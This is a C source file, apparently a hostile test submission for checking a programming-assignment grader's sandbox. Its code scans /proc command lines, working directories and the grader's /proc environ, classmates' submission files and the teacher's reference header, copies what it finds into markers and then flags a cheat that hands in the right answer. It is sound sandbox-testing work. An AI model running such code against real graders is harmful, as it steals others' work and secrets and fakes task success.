/* Reading what is not its own: the assignment and the submissions named on
 * the command lines of this process, its parent and the grader
 * (/proc/self, /proc/PPID, /proc/PID/cmdline and cwd), every classmate's
 * trace, .c and .so in the submissions directory (listed), a classmate's
 * work in the directory beside it (../outside/), and the teacher's home
 * ($HOME from the environment or from /proc/PID/environ of the grader, and
 * a guessed path) — by absolute and by relative paths. It copies out the first two it reads (markers
 * "read-copy"). Any successful read makes it hand in the right answer. */
#define EVIL_FAMILY "read-others"
#include "evil.h"

static int got;

static int mine(const char *path)
{
    const char *base = strrchr(path, '/');
    base = base ? base + 1 : path;
    const char *me = strrchr(__FILE__, '/');
    me = me ? me + 1 : __FILE__;
    return strncmp(base, "read-others", 11) == 0 || strcmp(base, me) == 0 ||
           strncmp(base, "swevil-", 7) == 0;
}

static void try_read(const char *path)
{
    static char buf[65536];
    if (mine(path))
        return;
    struct stat st;
    if (lstat(path, &st) != 0 || !S_ISREG(st.st_mode))
        return; /* no links, FIFOs or devices: only the real thing */
    long n = evil_read_file(path, buf, sizeof buf);
    if (n <= 0)
        return;
    if (memmem(buf, (size_t)n, "# stepwise", 10) || memmem(buf, (size_t)n, "sw_plugin_info", 14) ||
        memmem(buf, (size_t)n, "SWSECRET", 8)) {
        /* copied out: the first two (each copy is a marker in every directory) */
        if (got < 2) {
            char what[32];
            snprintf(what, sizeof what, "read-copy-%d", got);
            buf[n < 400 ? n : 400] = '\0';
            evil_mark(what, buf);
        }
        got++;
    }
}

static void try_dir(const char *dir)
{
    DIR *d = opendir(dir);
    if (!d)
        return;
    for (struct dirent *e; (e = readdir(d));) {
        char path[EVIL_PATH + 300];
        snprintf(path, sizeof path, "%.4000s/%.255s", dir, e->d_name);
        try_read(path);
    }
    closedir(d);
}

/* Every argument of a command line that names something readable: the
 * file itself, or the directory it is in. */
static void try_cmdline(pid_t pid)
{
    static char buf[16384];
    char cwd[EVIL_PATH], link[64], path[EVIL_PATH + 300];
    snprintf(link, sizeof link, "/proc/%d/cwd", (int)pid);
    ssize_t k = readlink(link, cwd, sizeof cwd - 1);
    if (k <= 0)
        return;
    cwd[k] = '\0';
    long n = evil_cmdline(pid, buf, sizeof buf);
    for (long i = 0; i < n; i += (long)strlen(buf + i) + 1) {
        if (buf[i] == '-')
            continue;
        evil_abs(cwd, buf + i, path);
        struct stat st;
        if (stat(path, &st) != 0)
            continue;
        if (S_ISDIR(st.st_mode))
            try_dir(path);
        else {
            try_read(path);
            char *slash = strrchr(path, '/');
            if (slash && slash != path) {
                *slash = '\0';
                try_dir(path);
            }
        }
    }
}

static void evil_attack(void)
{
    static evil_grader g;
    char path[EVIL_PATH + 300];
    /* The command lines this process and its parent were started with. */
    try_cmdline(getpid());
    try_cmdline(getppid());
    /* Guesses relative to the current directory, as a student would. */
    try_dir(".");
    try_dir("..");
    try_dir("../outside");
    try_read("assignment.txt");
    try_read("../assignment.txt");
    /* The teacher's home. */
    const char *home = getenv("HOME");
    if (home) {
        snprintf(path, sizeof path, "%.4000s/reference.h", home);
        try_read(path);
    }
    try_read(EVIL_HOME "/reference.h");
    /* What the grader's command line, directory and environment say. */
    if (evil_grader_info(&g) == 0) {
        try_read(g.assignment);
        for (int i = 0; i < g.ndirs; i++) {
            try_dir(g.dirs[i]);
            snprintf(path, sizeof path, "%.4000s/../outside", g.dirs[i]);
            try_dir(path);
        }
        try_dir(g.cwd);
        static char env[65536];
        snprintf(path, sizeof path, "/proc/%d/environ", (int)g.pid);
        long n = evil_read_file(path, env, sizeof env);
        for (long i = 0; i < n; i += (long)strlen(env + i) + 1)
            if (strncmp(env + i, "HOME=", 5) == 0) {
                snprintf(path, sizeof path, "%.4000s/reference.h", env + i + 5);
                try_read(path);
            }
    }
    if (got)
        evil_cheat = 1;
}
